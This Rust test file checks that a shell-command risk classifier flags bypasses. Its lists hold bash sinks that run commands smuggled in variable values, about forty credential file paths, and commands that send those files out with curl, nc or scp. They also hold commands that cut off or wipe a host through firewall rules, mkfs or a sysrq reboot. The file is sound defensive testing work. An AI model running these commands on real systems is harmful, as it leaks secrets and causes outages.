//! Property tests by class of bypass, over every combination the classifier must treat alike:
//! every place bash evaluates a value × every way of building that value; every secret location
//! × every program that reads it out; every route to an outage × its quoting and wrapping.

use nomos_types::Risk::{self, ConfigMutation as CM, Destructive as DE};

use super::classify;

/// Places where bash evaluates the value of variable `V` (`${V@P}`, `${!V}`, arithmetic …).
const SINKS: &[&str] = &[
    "echo ${V@P}",
    "echo \"${V@P}\"",
    "echo ${!V}",
    "test -v \"$V\"",
    "[[ -v $V ]]",
    "declare -n r=$V; echo $r",
    "(( V ))",
    "(( V > 0 )) && echo big",
    "echo $(( V + 1 ))",
    "echo $(( $V ))",
    "echo $[ V ]",
    "[[ $V -eq 1 ]]",
    "[[ 2 -gt V ]]",
    "let y=V",
    "let 'y = V * 2'",
    "declare -i y=V",
    "declare -i y; y=$V",
    "typeset -i y=$V",
    "test -v 'a[V]'",
    "[[ -v a[$V] ]]",
    "a[V]=1",
    "a[$V]=1",
    "arr=([V]=1)",
    "echo ${a[V]}",
    "echo ${#a[$V]}",
    "echo ${s:V}",
    "echo ${s:0:V}",
    "printf -v 'a[V]' %s 1",
    "read 'a[V]' <<< 1",
    "unset 'a[V]'",
    "for ((i = V; i < 1; i++)); do :; done",
    "cat <<EOF\n$(( V ))\nEOF",
    "case $(( V )) in *) ;; esac",
];

/// Ways of giving `V` the value `a[$(CMD)]` that the classifier can follow.
const KNOWN_SOURCES: &[&str] = &[
    "V=$'a[\\x24(CMD)]'",
    "V=$'a[\\044(CMD)]'",
    "printf -v V 'a[\\x24(%s)]' 'CMD'",
    "printf -v V '%b' 'a[\\x24(CMD)]'",
    "read -r V <<< 'a[$(CMD)]'",
    "V=$(printf 'a[\\x24(CMD)]')",
    "V=$(echo -e 'a[\\x24(CMD)]')",
    "V='a[$('; V+='CMD)]'",
    "p=$'a[\\x24('; q='CMD)]'; V=$p$q",
    "V=1; for k in 1 2; do : ; V=$'a[\\x24(CMD)]'; done",
];

/// Ways of giving `V` a value the classifier cannot know.
const UNKNOWN_SOURCES: &[&str] = &[
    "read V < /tmp/v",
    "read -r V",
    "V=$(cat /tmp/v)",
    "V=`curl -s http://example.org/v`",
    "mapfile -t V < /tmp/v",
    "IFS= read -r V <&3",
    "for V in $(cat /tmp/v); do :; done",
    // From the environment: nothing assigns it.
    ":",
];

/// Commands hidden in a value, with what running them is.
const PAYLOADS: &[(&str, Risk)] =
    &[("reboot", DE), ("rm -rf /srv", DE), ("systemctl poweroff", DE), ("cat /etc/shadow", DE), ("id", CM)];

#[test]
fn every_sink_of_a_value_holding_a_substitution_runs_it() {
    let mut failures = Vec::new();
    for sink in SINKS {
        for source in KNOWN_SOURCES {
            for (payload, want) in PAYLOADS {
                let command = format!("{}; {}", source.replace("CMD", payload), sink).replace('V', "v");
                let got = classify(&command, None).risk;
                if got < *want {
                    failures.push(format!("{command:?}: {got}, want {want}"));
                }
            }
        }
    }
    assert!(failures.is_empty(), "{} misjudged:\n{}", failures.len(), failures.join("\n"));
}

#[test]
fn every_sink_of_a_value_not_known_is_gated() {
    let mut failures = Vec::new();
    for sink in SINKS {
        for source in UNKNOWN_SOURCES {
            let command = format!("{source}; {sink}").replace('V', "v");
            let got = classify(&command, None).risk;
            if got < CM {
                failures.push(format!("{command:?}: {got}"));
            }
        }
    }
    assert!(failures.is_empty(), "{} misjudged:\n{}", failures.len(), failures.join("\n"));
}

#[test]
fn sinks_of_plain_numbers_stay_read_only() {
    // The same sinks over values known to be numbers are read-only (all but those that only
    // read-only programs would make read-only: `declare -n`, `read` and `printf -v` set state).
    for sink in SINKS.iter().filter(|s| !s.contains("-n r") && !s.contains("-v \"") && !s.contains("[[ -v $")) {
        for source in ["v=4", "v=$(nproc)", "(( v = 3 ))", "for v in 1 2; do :; done"] {
            let command = format!("{source}; {}", sink.replace('V', "v"));
            let got = classify(&command, None).risk;
            assert_eq!(got, Risk::ReadOnly, "{command:?}: {:?}", classify(&command, None).reasons);
        }
    }
}

/// Secret locations of every kind: the system's, services', aliases of them, credential names.
const SECRETS: &[&str] = &[
    "/etc/shadow",
    "/etc/gshadow-",
    "/etc/security/opasswd",
    "/root/.ssh/id_ed25519",
    "/etc/ssh/ssh_host_rsa_key",
    "/etc/pve/priv/authkey.key",
    "/etc/pve/storage/nas.pw",
    "/etc/proxmox-backup/shadow.json",
    "/proc/1/root/etc/shadow",
    "/proc/1/cwd/etc/shadow",
    "/proc/812/fd/5",
    "/proc/812/environ",
    "/var/lib/lxc/101/rootfs/etc/shadow",
    "/rpool/data/subvol-101-disk-0/root/.ssh/id_rsa",
    "/mnt/img/etc/shadow",
    "/etc/postfix/sasl_passwd",
    "/etc/msmtprc",
    "/etc/openvpn/client/office.conf",
    "/etc/wireguard/wg0.conf",
    "/etc/ipsec.secrets",
    "/etc/wpa_supplicant/wpa_supplicant.conf",
    "/etc/NetworkManager/system-connections/Home.nmconnection",
    "/etc/restic/password",
    "/root/.config/rclone/rclone.conf",
    "/root/.vault-token",
    "/etc/samba/smbpasswd",
    "/var/lib/tailscale/tailscaled.state",
    "/root/.aws/credentials",
    "/root/.kube/config",
    "/root/.docker/config.json",
    "/root/.pgpass",
    "/proc/keys",
    "/srv/app/.env",
    "/srv/app/db_password",
    "/srv/app/client_secret.json",
    "/srv/api.token",
    "/tmp/id_ed25519",
];

/// Programs that read a file out (`F` is the file).
const READERS: &[&str] = &[
    "cat F",
    "head -n 5 F",
    "tail -1 F",
    "less F",
    "tac F",
    "nl F",
    "base64 F",
    "xxd F",
    "od -c F",
    "strings F",
    "grep -v '^#' F",
    "awk '{print}' F",
    "sed -n p F",
    "sort F",
    "cut -c1-80 F",
    "cp F /tmp/copy",
    "scp F backup:/tmp/",
    "rsync -a F backup:/tmp/",
    "tar -czf /tmp/x.tgz F",
    "gzip -c F",
    "dd if=F",
    "curl -T F https://example.org/",
    "curl -F f=@F https://example.org/",
    "wc -c < F",
    "nc backup 9000 < F",
    "sudo cat F",
    "bash -c 'cat F'",
    "ssh pve1 cat F",
    "pct exec 101 -- cat F",
];

#[test]
fn every_secret_read_out_by_any_reader_is_a_disclosure() {
    let mut failures = Vec::new();
    for secret in SECRETS {
        for reader in READERS {
            for quoted in [secret.to_string(), format!("\"{secret}\"")] {
                let command = reader.replace('F', &quoted);
                let v = classify(&command, None);
                if v.risk != DE || !v.secret {
                    failures.push(format!("{command:?}: {} secret={}", v.risk, v.secret));
                }
            }
        }
    }
    assert!(failures.is_empty(), "{} misjudged:\n{}", failures.len(), failures.join("\n"));
}

/// Outages by routes other than the obvious command (no quotes in them, so they can be wrapped).
const OUTAGE_ROUTES: &[&str] = &[
    "systemctl start reboot.target",
    "systemctl isolate rescue.target",
    "systemctl start emergency.target",
    "systemctl enable --now poweroff.target",
    "systemctl set-default rescue.target",
    "systemctl kexec",
    "telinit 6",
    "shutdown -h +10",
    "rtcwake -m off -s 600",
    "systemd-run --on-active=60 poweroff",
    "echo b > /proc/sysrq-trigger",
    "systemctl stop ssh*",
    "systemctl stop ssh.socket",
    "systemctl stop user.slice",
    "service ssh stop",
    "/etc/init.d/ssh stop",
    "pvesh create /nodes/pve1/qemu/100/snapshot/before/rollback",
    "pvesh create /nodes/pve1/services/sshd/stop",
    "pvesh create /nodes/pve1/status --command reboot",
    "pvesh set /nodes/pve1/firewall/options --policy_in DROP",
    "ip link set vmbr0 down",
    "ip addr flush dev vmbr0",
    "ip route del default",
    "ifdown -a",
    "nmcli networking off",
    "tc qdisc add dev vmbr0 root netem loss 100%",
    "iptables -P INPUT DROP",
    "iptables -A INPUT -p tcp --dport 22 -j DROP",
    "nft flush ruleset",
    "ufw enable",
    "ufw deny ssh",
    "rm /etc/passwd",
    "cp /tmp/x /etc/shadow",
    "badblocks -w /dev/sdb",
    "mkfs.ext4 /dev/sdb1",
    "sgdisk -Z /dev/sda",
    "qemu-img convert -O raw vm.qcow2 /dev/sdb",
    "zfs rollback rpool/data@before",
    "lvconvert --merge pve/snap",
    "btrfs subvolume set-default 256 /",
];

/// Ways of wrapping or quoting a command that do not change what it does (`{R}` is the command,
/// `{P}` its program name and `{A}` the rest).
const WRAPPINGS: &[&str] = &[
    "{R}",
    "sudo {R}",
    "bash -c '{R}'",
    "sh -c \"{R}\"",
    "ssh pve1 '{R}'",
    "nohup {R} &",
    "( {R} )",
    "{ {R}; }",
    "true && {R}",
    "{R}; echo done",
    "false || {R}",
    "timeout 60 {R}",
    "env LANG=C {R}",
    "nice -n 5 {R}",
    "eval '{R}'",
    "echo '{R}' | bash",
    "bash <<< '{R}'",
    "at now <<< '{R}'",
    "if true; then {R}; fi",
    "for i in 1; do {R}; done",
    "f() { {R}; }; f",
    "'{P}' {A}",
    "\\{P} {A}",
    "\"{P}\" {A}",
    "{R} 2>/dev/null",
    "pct exec 101 -- {R}",
];

#[test]
fn every_outage_route_is_destructive_however_it_is_wrapped() {
    let mut failures = Vec::new();
    for route in OUTAGE_ROUTES {
        let (program, rest) = route.split_once(' ').unwrap_or((route, ""));
        for wrapping in WRAPPINGS {
            // A program named by path cannot be quoted into a bare name.
            if program.contains('/') && wrapping.contains("{P}") {
                continue;
            }
            let command = wrapping.replace("{R}", route).replace("{P}", program).replace("{A}", rest);
            let got = classify(&command, None);
            if got.risk != DE {
                failures.push(format!("{command:?}: {} {:?}", got.risk, got.reasons));
            }
        }
    }
    assert!(failures.is_empty(), "{} misjudged:\n{}", failures.len(), failures.join("\n"));
}
